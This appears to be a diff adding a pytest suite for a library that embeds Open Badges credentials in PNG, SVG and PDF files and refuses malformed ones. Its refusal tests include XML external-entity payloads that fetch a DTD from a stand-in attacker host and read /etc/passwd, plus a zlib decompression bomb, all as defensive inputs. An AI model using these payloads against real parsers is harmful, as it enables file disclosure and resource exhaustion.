@@ -1,0 +1,227 @@
+"""Pictures and PDFs with a credential in them: put in, taken out, and everything else left as it was."""
+
+import zlib
+from io import BytesIO
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from PIL import Image
+from pypdf import PdfWriter
+
+from laurel.bake import detect, pdf, png, svg, unbake
+from laurel.bake.refusals import MAX_CREDENTIAL, MAX_FILE
+from laurel.errors import BakeError
+from shared import SHARED, needs_shared
+
+JSON = '{"name": "Оценяване ]]> <b>&amp;</b>"}'
+JWT = "eyJhbGciOiJFZERTQSJ9.eyJhIjoxfQ.c2ln"
+SVG = b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" data-a="1 > 0"><path d="M0 0"/></svg>\n'
+
+texts = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff")).map(
+    lambda inner: '{"a": "' + inner.strip() + '"}'
+)
+
+
+def picture():
+    image = BytesIO()
+    Image.new("RGB", (4, 4), "#1f6b45").save(image, "PNG", pnginfo=None, dpi=(72, 72))
+    return image.getvalue()
+
+
+def document():
+    written = BytesIO()
+    writer = PdfWriter()
+    writer.add_blank_page(width=100, height=100)
+    writer.write(written)
+    return written.getvalue()
+
+
+def chunk(kind, body):
+    return len(body).to_bytes(4) + kind + body + zlib.crc32(kind + body).to_bytes(4)
+
+
+def with_chunk(body, kind=b"iTXt"):
+    plain = picture()
+    return plain[:33] + chunk(kind, body) + plain[33:]
+
+
+def reason_of(call, *arguments):
+    with pytest.raises(BakeError) as caught:
+        call(*arguments)
+    assert caught.value.say("bg") != caught.value.say("en")
+    return caught.value.facts["reason"]
+
+
+CARRIERS = [
+    pytest.param(png.bake, picture, "png", id="png"),
+    pytest.param(svg.bake, lambda: SVG, "svg", id="svg"),
+    pytest.param(pdf.attach, document, "pdf", id="pdf"),
+]
+
+
+@pytest.mark.parametrize(("put", "plain", "carrier"), CARRIERS)
+@pytest.mark.parametrize("credential", [JSON, JWT])
+def test_what_is_put_in_is_taken_out(put, plain, carrier, credential):
+    baked = put(plain(), credential)
+
+    assert detect(baked) == carrier
+    assert unbake(baked) == credential
+
+
+@given(texts)
+def test_any_json_text_survives_a_png_and_an_svg(credential):
+    assert png.extract(png.bake(picture(), credential)) == credential
+    assert svg.extract(svg.bake(SVG, credential)) == credential
+
+
+@pytest.mark.parametrize(("module", "plain"), [(png, picture), (svg, lambda: SVG)])
+def test_a_credential_already_there_is_replaced(module, plain):
+    twice = module.bake(module.bake(plain(), JSON), JWT)
+
+    assert module.extract(twice) == JWT
+    assert twice == module.bake(plain(), JWT)
+
+
+def test_every_other_chunk_stays_byte_for_byte():
+    plain = with_chunk(b"Author\0\0\0\0\0Amina")
+    baked = png.bake(plain, JSON)
+
+    ours = chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + JSON.encode())
+    assert baked.replace(ours, b"") == plain
+
+
+def test_a_compressed_chunk_of_another_issuer_is_read():
+    packed = with_chunk(b"openbadgecredential\0\1\0en\0x\0" + zlib.compress(JSON.encode()))
+
+    assert png.extract(packed) == JSON
+
+
+@pytest.mark.parametrize(("text", "carrier"), [(JSON, "json"), (f"\ufeff {JSON}", "json"), (JWT + "\n", "jwt")])
+def test_plain_text_is_told_by_its_first_characters(text, carrier):
+    assert detect(text.encode()) == carrier
+    assert unbake(text.encode()) == text.strip("\ufeff \n")
+
+
+def test_refuses_a_png_with_two_credentials():
+    body = b"openbadgecredential\0\0\0\0\0{}"
+    twice = with_chunk(body)[:33] + chunk(b"iTXt", body) + with_chunk(body)[33:]
+
+    assert reason_of(png.extract, twice) == "SEVERAL_CREDENTIALS"
+
+
+def test_refuses_a_png_whose_chunk_was_changed_without_its_checksum():
+    assert reason_of(png.extract, png.bake(picture(), JSON).replace(b"name", b"mane")) == "DAMAGED"
+
+
+def test_refuses_a_png_that_unpacks_to_more_than_a_credential_can_be():
+    bomb = with_chunk(b"openbadgecredential\0\1\0\0\0" + zlib.compress(b" " * (MAX_CREDENTIAL + 1)))
+
+    assert reason_of(png.extract, bomb) == "CREDENTIAL_TOO_LARGE"
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"openbadgecredential\0",
+        b"openbadgecredential\0\2\0\0\0{}",
+        b"openbadgecredential\0\1\0\0\0{}",
+        b"openbadgecredential\0\1\1\0\0" + zlib.compress(b"{}"),
+    ],
+)
+def test_refuses_a_chunk_that_breaks_the_png_rules(body):
+    assert reason_of(png.extract, with_chunk(body)) == "DAMAGED"
+
+
+@pytest.mark.parametrize("cut", [9, 20, 40, -4])
+def test_refuses_a_png_that_was_cut_off(cut):
+    assert reason_of(png.extract, png.bake(picture(), JSON)[:cut]) == "DAMAGED"
+
+
+def test_refuses_an_svg_with_two_credentials_or_two_forms_of_one():
+    element = f'<o:credential xmlns:o="{svg.NAMESPACE}"'.encode()
+    two = SVG.replace(b"<path", element + b">{}</o:credential>" + element + b' verify="a.b.c"/><path')
+    both = SVG.replace(b"<path", element + b' verify="a.b.c">{}</o:credential><path')
+    nested = SVG.replace(b"<path", element + b">{}" + element + b"/></o:credential><path")
+
+    assert [reason_of(svg.extract, one) for one in (two, both, nested)] == ["SEVERAL_CREDENTIALS"] * 3
+
+
+@pytest.mark.parametrize(
+    "subset",
+    [
+        b'<!ENTITY a "b">',
+        b'<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
+        b'<!ATTLIST svg verify CDATA "x">',
+        b'<!ENTITY x SYSTEM "file:///etc/passwd">',
+    ],
+)
+def test_refuses_an_svg_that_defines_entities_or_default_attributes(subset):
+    assert reason_of(svg.extract, SVG.replace(b"<svg", b"<!DOCTYPE svg [" + subset + b"]><svg")) == "ENTITIES"
+
+
+def test_an_ordinary_doctype_is_read_without_fetching_it():
+    plain = SVG.replace(b"<svg", b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd"><svg')
+
+    assert svg.extract(svg.bake(plain, JSON)) == JSON
+
+
+def test_refuses_an_svg_in_another_encoding():
+    assert reason_of(svg.extract, SVG.decode().encode("utf-16")) == "NOT_UTF_8"
+    assert reason_of(svg.extract, SVG.replace(b"UTF-8", b"windows-1251")) == "NOT_UTF_8"
+
+
+@pytest.mark.parametrize("text", [b"<html/>", b"<svg/>", b'<svg xmlns="http://www.w3.org/2000/svg"/>', SVG[:-8], b"<a" * 1000])
+def test_refuses_what_is_not_a_whole_svg(text):
+    assert reason_of(svg.bake, text, JSON) == "NOT_AN_SVG"
+
+
+def test_refuses_an_svg_nested_without_end():
+    deep = SVG.replace(b"<path", b"<g>" * 300 + b"</g>" * 300 + b"<path")
+
+    assert reason_of(svg.extract, deep) == "DAMAGED"
+
+
+def test_refuses_a_second_credential_in_a_pdf():
+    assert reason_of(pdf.attach, pdf.attach(document(), JSON), JWT) == "SEVERAL_CREDENTIALS"
+
+
+def test_refuses_a_pdf_with_two_credentials():
+    writer = PdfWriter(BytesIO(document()))
+    writer.add_attachment("credential.json", b"{}")
+    writer.add_attachment("credential.jwt", JWT.encode())
+    written = BytesIO()
+    writer.write(written)
+
+    assert reason_of(pdf.extract, written.getvalue()) == "SEVERAL_CREDENTIALS"
+
+
+@pytest.mark.parametrize("broken", [b"%PDF-1.7", b"%PDF-1.7\ntrailer<</Root 1 0 R>>", b"%PDF-" + b"\0" * 100])
+def test_refuses_a_broken_pdf(broken):
+    assert reason_of(pdf.extract, broken) == "NOT_A_PDF"
+
+
+@pytest.mark.parametrize(("module", "plain"), [(png, picture), (svg, lambda: SVG), (pdf, document)])
+def test_refuses_a_file_without_a_credential(module, plain):
+    assert reason_of(module.extract, plain()) == "NO_CREDENTIAL"
+
+
+@pytest.mark.parametrize("module", [png, svg, pdf])
+def test_refuses_a_file_that_is_too_large(module):
+    assert reason_of(module.extract, b" " * (MAX_FILE + 1)) == "FILE_TOO_LARGE"
+
+
+@pytest.mark.parametrize("presented", [b"", b"hello", b"GIF89a", b"a.b", "а.б.в".encode(), b"\0" * 50])
+def test_refuses_what_is_no_badge_at_all(presented):
+    assert reason_of(detect, presented) == "NOT_A_BADGE"
+
+
+@pytest.mark.parametrize(
+    "name", ["simple-json.png", "simple-json.svg", "simple-jwt.png", "simple-jwt.svg", "simple-jwt_v1.png", "simple-jwt_v1.svg"]
+)
+@pytest.mark.shared
+@needs_shared[1]
+def test_the_baked_fixtures_of_1edtech_are_read(name):
+    text = unbake((SHARED / "vectors" / "1edtech-validator-ob30" / name).read_bytes())
+
+    assert text.startswith("{" if "json" in name else "eyJ")
